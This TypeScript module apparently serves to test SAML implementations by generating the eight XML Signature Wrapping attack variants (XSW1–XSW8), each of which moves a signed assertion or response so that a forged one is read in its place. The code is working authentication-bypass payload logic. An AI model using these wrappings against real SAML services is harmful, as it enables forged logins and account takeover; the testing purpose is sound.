/**
 * The eight ways of XML Signature Wrapping that SAML tools are tried with (Somorovsky et al., "On Breaking SAML", USENIX
 * Security 2012; numbered as SAML Raider does): a signed element stays somewhere in the document, and an attacker's element
 * stands where a careless reader looks.
 */
export interface SignedPieces {
  /** A signed response. */
  readonly response: string;
  /** A signed assertion. */
  readonly assertion: string;
  /** Puts XML into an unsigned response: what is before its status, and its assertions. */
  readonly envelop: (assertions: string, before?: string) => string;
  /** Makes a signed element the attacker's: another name, another id. */
  readonly forge: (xml: string) => string;
}

const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;

const signatureOf = (xml: string): string => SIGNATURE.exec(xml)?.[0] ?? "";
const bare = (xml: string): string => xml.replace(SIGNATURE, "");
const insertAfterIssuer = (xml: string, inserted: string): string =>
  xml.replace("</saml2:Issuer>", `</saml2:Issuer>${inserted}`);
const insertAtEnd = (xml: string, element: string, inserted: string): string =>
  xml.replace(new RegExp(`</${element}>$`), `${inserted}</${element}>`);

export const wrappings: Readonly<Record<string, (pieces: SignedPieces) => string>> = {
  "XSW1: the signed response inside its own signature, in a forged response": ({ response, forge }) => {
    const signature = insertAtEnd(signatureOf(response), "ds:Signature", bare(response));
    return insertAfterIssuer(forge(bare(response)), signature);
  },
  "XSW2: the signed response beside its signature, in a forged response": ({ response, forge }) =>
    insertAfterIssuer(forge(bare(response)), bare(response) + signatureOf(response)),
  "XSW3: a forged assertion before the signed one": ({ assertion, envelop, forge }) =>
    envelop(forge(bare(assertion)) + assertion),
  "XSW4: the signed assertion inside a forged one": ({ assertion, envelop, forge }) =>
    envelop(insertAtEnd(forge(bare(assertion)), "saml2:Assertion", assertion)),
  "XSW5: a forged assertion with the signature of another one": ({ assertion, envelop, forge }) =>
    envelop(insertAfterIssuer(forge(bare(assertion)), signatureOf(assertion)) + bare(assertion)),
  "XSW6: the signed assertion inside its signature, in a forged one": ({ assertion, envelop, forge }) => {
    const signature = insertAtEnd(signatureOf(assertion), "ds:Signature", bare(assertion));
    return envelop(insertAfterIssuer(forge(bare(assertion)), signature));
  },
  "XSW7: a forged assertion in the extensions": ({ assertion, envelop, forge }) =>
    envelop(assertion, `<saml2p:Extensions>${forge(bare(assertion))}</saml2p:Extensions>`),
  "XSW8: the signed assertion in an object of its signature, in a forged one": ({
    assertion,
    envelop,
    forge,
  }) => {
    const object = `<ds:Object>${bare(assertion)}</ds:Object>`;
    const signature = insertAtEnd(signatureOf(assertion), "ds:Signature", object);
    return envelop(insertAfterIssuer(forge(bare(assertion)), signature));
  },
};
